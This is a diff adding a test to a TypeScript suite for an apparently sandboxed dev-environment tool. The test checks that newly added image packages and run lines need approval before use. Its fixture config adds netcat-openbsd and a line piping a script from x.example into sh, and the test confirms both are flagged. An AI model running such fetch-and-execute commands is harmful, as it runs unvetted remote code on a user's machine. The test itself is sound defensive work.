@@ -141,6 +141,21 @@ describe('effectiveConfig and checkApproval against a real vibebox.toml', () => 
     assert.equal(effectiveConfig(project, gid, {}).workspace?.writable_git_config, false);
   });
 
+  it('[image]: a new package or run line waits for approval (the approved layer is built meanwhile); removing is free', async () => {
+    const iid = '01900000-0000-7000-8000-0000000000b1';
+    toml('[image]\napt = ["jq"]\n');
+    await checkApproval(project, iid, { interactive: false, yes: true });
+    assert.deepEqual(effectiveConfig(project, iid, {}).image, { apt: ['jq'], npm: [], run: [] });
+    toml('[image]\napt = ["jq", "netcat-openbsd"]\nrun = ["curl https://x.example/i.sh | sh"]\n');
+    const eff = effectiveConfig(project, iid, {});
+    assert.deepEqual(eff.image, { apt: ['jq'], npm: [], run: [] });
+    assert.deepEqual(eff.unapproved, ['+ image.apt: netcat-openbsd', '+ image.run: curl https://x.example/i.sh | sh']);
+    await assert.rejects(checkApproval(project, iid, { interactive: false }), (e: VibeboxError) => e.code === 'E_NOT_APPROVED' && /image\.run/.test(e.message));
+    toml('[image]\napt = []\n');
+    assert.deepEqual(effectiveConfig(project, iid, {}).image, { apt: [], npm: [], run: [] });
+    assert.deepEqual(effectiveConfig(project, iid, {}).unapproved, []);
+  });
+
   it('raised resources are not applied until approved; lowered ones apply at once', async () => {
     toml('[vm]\ncpus = 64\nmemory = "512GiB"\ndisk = "1TiB"\n[session]\nauto_shutdown_ms = 86400000\n');
     const eff = effectiveConfig(project, id, {});
